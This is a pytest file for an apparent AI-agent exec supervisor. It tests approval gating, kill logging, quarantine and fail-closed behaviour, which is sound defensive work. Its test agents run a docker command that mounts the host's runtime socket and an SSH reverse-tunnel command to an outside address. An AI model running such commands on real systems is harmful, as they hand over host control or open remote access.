"""How the supervisor records and answers execs: ask fails closed until a person approves, a
kill's response is logged before the agent's exit, an exec gone before it is read is reported."""

from __future__ import annotations

import json
import re
import textwrap
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from supervision_support import Run, fast_spec, needs_root, wait_for

from corral.integrations.guard_factory import close_state, make_guard
from corral.ledger.open import DEFAULT_FILE, open_ledger
from corral.sinks import DecisionLog
from corral.supervision import procfs
from corral.supervision.events import Event
from corral.supervision.execwatch import ProcEvent

pytestmark = needs_root
# CR-PRV-007 asks (a container given the host's runtime socket); ./docker is a copy of bash that
# runs the script `run` with the rest as its arguments, so nothing needs docker installed.
ASKING = "./docker run -v /var/run/docker.sock:/var/run/docker.sock alpine"


def test_ask_at_exec_stops_the_process_until_a_person_approves(
    supervised: Callable[..., Run], tmp_path: Path
) -> None:
    run = supervised()
    state = tmp_path / "state"
    state.mkdir()
    guard = make_guard("default", [str(run.workspace)], state_dir=state)
    (run.workspace / "run").write_text("sleep 1\necho ran >> ran.txt\n")
    agent = run.workspace / "agent.sh"
    agent.write_text(
        textwrap.dedent(
            f"""\
            cp /bin/bash ./docker
            {ASKING}; echo $? > first
            while [ ! -e approved ]; do sleep 0.02; done
            {ASKING}; echo $? > second
            """
        )
    )
    try:
        supervisor = run.start(["sh", str(agent)], guard=guard)
        assert wait_for((run.workspace / "first").exists, timeout=15)
        stop = next(e for e in supervisor.events if e.kind == "exec" and e.step == "stop")
        assert stop.decision is not None and stop.decision.decision == "deny"
        assert "CR-PRV-007" in stop.decision.reason
        found = re.search(r"approval (ap-[0-9a-f]+) is pending", stop.decision.reason)
        assert found is not None, stop.decision.reason
        assert f"corral approvals approve {found.group(1)}" in stop.decision.reason
        ledger = open_ledger(str(state / DEFAULT_FILE))
        ledger.decide(found.group(1), approve=True, by="test", reason="needed here", ttl=600)
        (run.workspace / "approved").touch()
        outcome = run.finish(timeout=20)
    finally:
        close_state(guard)
    assert (run.workspace / "first").read_text().strip() == "137"  # stopped, not run
    assert (run.workspace / "second").read_text().strip() == "0"  # the retry ran
    assert (run.workspace / "ran.txt").read_text() == "ran\n"
    assert outcome.killed_by is None


@pytest.mark.parametrize("attempt", range(3))
def test_a_kills_response_is_logged_before_the_agents_exit(
    supervised: Callable[..., Run], tmp_path: Path, attempt: int
) -> None:
    """A sampler-side kill (a binary that deleted itself, with high severity set to kill at
    once) races the agent's exit; the log must hold the response, and before the exit."""
    run = supervised(spec=fast_spec(high=["kill"]))
    log = DecisionLog(tmp_path / "decisions.jsonl")
    agent = run.workspace / "agent.sh"
    agent.write_text("cp /bin/sleep ./vanish\n./vanish 20 &\nsleep 0.1\nrm ./vanish\nwait\n")
    run.start(["sh", str(agent)])
    assert run.supervisor is not None

    def write(event: Event) -> None:
        log.append(event.record(), event.action)

    run.supervisor.listeners.append(write)
    outcome = run.finish(timeout=20)
    log.close()
    assert outcome.killed_by is not None and "CR-SUP-006" in outcome.killed_by
    events = [
        json.loads(line)["decision"]["supervisor"]
        for line in log.path.read_text().splitlines()
        if "supervisor" in json.loads(line).get("decision", {})
    ]
    kinds = [(e["event"], e.get("step")) for e in events]
    assert ("response", "kill") in kinds, kinds
    assert kinds[-1] == ("exit", None), kinds
    assert kinds.index(("response", "kill")) < kinds.index(("exit", None))


def unused_pids(count: int) -> list[int]:
    """Pids no process has now, from the top of the range (the kernel reuses them last)."""
    top = int(Path("/proc/sys/kernel/pid_max").read_text())
    return [p for p in range(top - 1, top - 1000, -1) if not Path(f"/proc/{p}").exists()][:count]


def test_an_exec_gone_before_it_is_read_is_recorded(supervised: Callable[..., Run]) -> None:
    """The kernel reports the exec of a child of the agent; by the time the supervisor reads
    /proc the process is gone. It is recorded and counted, not dropped."""
    run = supervised()
    supervisor = run.start(["sleep", "1"])
    assert wait_for(lambda: any(e.kind == "exec" for e in supervisor.events), timeout=10)
    gone, stranger = unused_pids(2)
    agent = supervisor.agent_pids()[0]
    supervisor._on_proc_event(ProcEvent("fork", gone, agent, time.monotonic_ns()))
    supervisor._on_proc_event(ProcEvent("exec", gone, 0, time.monotonic_ns()))
    # a stranger's vanished exec (no fork from the agent) is nobody's business
    supervisor._on_proc_event(ProcEvent("exec", stranger, 0, time.monotonic_ns()))
    outcome = run.finish(timeout=10)
    unjudged = [e for e in outcome.events if e.kind == "unjudged"]
    assert [e.pid for e in unjudged] == [gone]
    assert f"parent {agent}" in unjudged[0].summary
    assert outcome.unjudged == 1
    assert "1 exec(s) exited before they could be judged" in outcome.events[-1].summary


def test_a_quarantined_run_stops_even_commands_it_ran_before(
    supervised: Callable[..., Run], tmp_path: Path
) -> None:
    """The supervisor reuses the stateless judgement of a repeated command line, but the session
    still sees every exec: once the run is quarantined, a command that was allowed is stopped.
    (`sleep 1`, not `true`: an exec is judged after the kernel reports it, and a process that
    finishes first is only recorded as unjudged.)"""
    run = supervised()
    state = tmp_path / "state"
    state.mkdir()
    guard = make_guard("default", [str(run.workspace)], state_dir=state)
    agent = run.workspace / "agent.sh"
    agent.write_text(
        textwrap.dedent(
            """\
            /bin/sleep 1; echo $? > before
            for i in 1 2 3 4 5 6 7 8; do ssh -N -R 2222:localhost:22 x@203.0.113.7; done
            /bin/sleep 1; echo $? > after
            """
        )
    )
    try:
        run.start(["sh", str(agent)], guard=guard)
        assert wait_for((run.workspace / "after").exists, timeout=20)
        run.finish(timeout=20)
    finally:
        close_state(guard)
    assert (run.workspace / "before").read_text().strip() == "0"
    assert (run.workspace / "after").read_text().strip() == "137"  # quarantined: stopped


def test_an_internal_error_while_judging_an_exec_kills_the_agent(
    supervised: Callable[..., Run], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A bug on the exec path must not leave the watcher dead and the agent running unjudged."""
    run = supervised()
    supervisor = run.start(["sh", "-c", "while :; do sleep 0.05; done"])
    assert wait_for(lambda: any(e.kind == "exec" for e in supervisor.events), timeout=10)

    def broken(pid: int) -> None:
        raise RuntimeError("identification broke")

    monkeypatch.setattr(supervisor.known, "identify_pid", broken)
    outcome = run.finish(timeout=15)
    assert outcome.killed_by is not None and "CR-SUP-012" in outcome.killed_by
    assert "identification broke" in outcome.killed_by
    kills = [e for e in outcome.events if e.kind == "response" and e.step == "kill"]
    assert kills and kills[0].decision is not None and kills[0].decision.decision == "deny"


def test_a_blind_exec_watcher_kills_the_agent(supervised: Callable[..., Run]) -> None:
    run = supervised()
    supervisor = run.start(["sleep", "30"])
    supervisor._on_proc_event(ProcEvent("blind", 0, 0, time.monotonic_ns()))
    outcome = run.finish(timeout=10)
    assert outcome.killed_by is not None and "exec watcher stopped" in outcome.killed_by
    assert outcome.exit_code == 137


def test_lost_process_events_judge_every_agent_process_again(
    supervised: Callable[..., Run],
) -> None:
    """The kernel dropped events (ENOBUFS): an exec it never reported is judged all the same.
    The watcher is stopped first, so the asking command runs unseen until the loss is told."""
    run = supervised()
    (run.workspace / "run").write_text("sleep 20\n")
    agent = run.workspace / "agent.sh"
    agent.write_text(
        f"cp /bin/bash ./docker\nwhile [ ! -e go ]; do sleep 0.02; done\n{ASKING}; echo $? > rc\n"
    )
    supervisor = run.start(["sh", str(agent)])
    assert supervisor.watcher is not None
    supervisor.watcher.stop()
    supervisor._watcher_stopped = True
    (run.workspace / "go").touch()

    def unseen_running() -> bool:
        return any("docker" in " ".join(procfs.cmdline(p) or []) for p in supervisor.agent_pids())

    assert wait_for(unseen_running, timeout=10)
    assert not any(e.step == "stop" for e in supervisor.events)
    supervisor._on_proc_event(ProcEvent("lost", 0, 0, time.monotonic_ns()))
    assert wait_for((run.workspace / "rc").exists, timeout=10)
    outcome = run.finish(timeout=10)
    assert (run.workspace / "rc").read_text().strip() == "137"  # stopped once it was judged
    assert any(e.kind == "unjudged" and "dropped" in e.summary for e in outcome.events)
    stops = [e for e in outcome.events if e.kind == "exec" and e.step == "stop"]
    assert stops and stops[0].decision is not None and "CR-PRV-007" in stops[0].decision.reason
